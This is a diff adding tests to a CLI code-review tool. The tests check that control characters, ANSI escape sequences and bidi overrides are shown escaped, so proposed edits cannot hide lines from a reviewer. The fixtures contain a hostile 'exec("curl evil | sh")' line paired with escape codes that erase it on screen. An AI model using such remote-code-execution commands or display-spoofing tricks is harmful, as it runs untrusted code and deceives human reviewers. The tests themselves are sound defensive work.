@@ -1,7 +1,13 @@
+/* eslint-disable no-control-regex -- these tests are about control characters */
 import { test } from 'node:test';
+import { mkdtemp, rm, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { main } from '../../../src/cli/main';
 import assert from 'node:assert/strict';
-import { terminalReviewer } from '../../../src/cli/run';
+import { terminalReviewer } from '../../../src/cli/terminalReviewer';
 import { diffChanges } from '../../../src/edits';
+import { inertJson, inertOutput, inertText, stripAnsi } from '../../../src/domain/terminalText';
 import type { FileChange } from '../../../src/domain/model';
 import type { ProposalView, RoundView } from '../../../src/domain/session';
 import { bytes, report } from './fakes';
@@ -96,4 +102,51 @@ test('review gate: the reason a path is protected is shown beside it', async () 
   const gate = scripted(['q']);
   await gate.reviewer.review({ ...view, protectedPaths: ['package.json'], protectedReasons: { 'package.json': 'it changes the script the tests run with ("test")' } }, signal);
   assert.match(gate.said(), /! protected paths: package\.json \(it changes the script the tests run with \("test"\)\)/);
+});
+
+test('terminal text is inert: C0 (but tab and newline), C1, ESC sequences and bidi overrides shown escaped', () => {
+  assert.equal(inertText('a\tb\nc'), 'a\tb\nc');
+  assert.equal(inertText('ok\u001b[2K\u001b[1A\rgone'), 'ok\\x1b[2K\\x1b[1A\\rgone');
+  assert.equal(inertText('crlf\r\nline'), 'crlf\nline');
+  assert.equal(inertText('\u0007\u0000\u007f\u009b31m'), '\\x07\\x00\\x7f\\x9b31m');
+  assert.equal(inertText('user\u202eexe.txt \u2066x\u2069'), 'user\\u202eexe.txt \\u2066x\\u2069');
+  assert.equal(inertText(inertText('\u001b]0;title\u0007')), '\\x1b]0;title\\x07', 'escaping twice changes nothing more');
+  assert.equal(stripAnsi('\u001b[31mred\u001b[0m \u009b1mbold\u009b0m \u001b]8;;http://x\u001b\\link\u001b]8;;\u0007 \u001bc'), 'red bold link ');
+  assert.equal(inertOutput('\u001b[32m✔ ok\u001b[0m\u001b[2K'), '✔ ok');
+  const json = JSON.stringify({ text: 'a\u001b[2K\u009b\u202e' });
+  assert.equal(JSON.parse(inertJson(json)).text, 'a\u001b[2K\u009b\u202e', 'JSON stays the same value');
+  assert.doesNotMatch(inertJson(json), /[\u001b\u009b\u202e]/);
+});
+
+test('review gate: an added line that erases itself on screen is shown escaped, with the hidden line visible', async () => {
+  const spoof = 'const total = sum(items);\nexec("curl evil | sh"); \u001b[2K\u001b[1A\n';
+  const spoofed: FileChange[] = [{ path: 'src/a.js', kind: 'modify', before: bytes('const total = 0;\n'), after: bytes(spoof) }];
+  const shown = scripted(['q']);
+  await shown.reviewer.review({ ...view, summary: 'fine \u001b[8mhidden\u001b[0m', changes: spoofed, diffs: diffChanges(spoofed), protectedPaths: [] }, signal);
+  assert.doesNotMatch(shown.said(), /\u001b/);
+  assert.match(shown.said(), /\+exec\("curl evil \| sh"\); \\x1b\[2K\\x1b\[1A/);
+  assert.match(shown.said(), /fine \\x1b\[8mhidden/);
+});
+
+test('every CLI command prints inert text: apply --dry-run shows an escape in a diff as \\x1b, and --json still parses', async () => {
+  const root = await mkdtemp(join(tmpdir(), 'refine-inert-'));
+  try {
+    await writeFile(join(root, 'a.js'), 'one\n');
+    const reply = 'a.js\n<<<<<<< SEARCH\none\n=======\none\nexec("curl evil | sh") \u001b[2K\u001b[1A\u202e\n>>>>>>> REPLACE\n';
+    const run = async (args: string[]) => {
+      let out = '';
+      let err = '';
+      const code = await main(args, { stdout: (text) => (out += text), stderr: (text) => (err += text), readStdin: async () => reply, cwd: root, env: {} });
+      return { code, out, err };
+    };
+    const text = await run(['apply', '--dry-run']);
+    assert.equal(text.code, 0, text.err);
+    assert.doesNotMatch(text.out + text.err, /[\u001b\u202e]/);
+    assert.match(text.out, /\+exec\("curl evil \| sh"\) \\x1b\[2K\\x1b\[1A\\u202e/);
+    const json = await run(['apply', '--dry-run', '--json']);
+    assert.doesNotMatch(json.out, /[\u001b\u202e]/);
+    assert.match((JSON.parse(json.out) as { files: { diff: string }[] }).files[0]!.diff, /\u001b\[2K/);
+  } finally {
+    await rm(root, { recursive: true, force: true });
+  }
 });
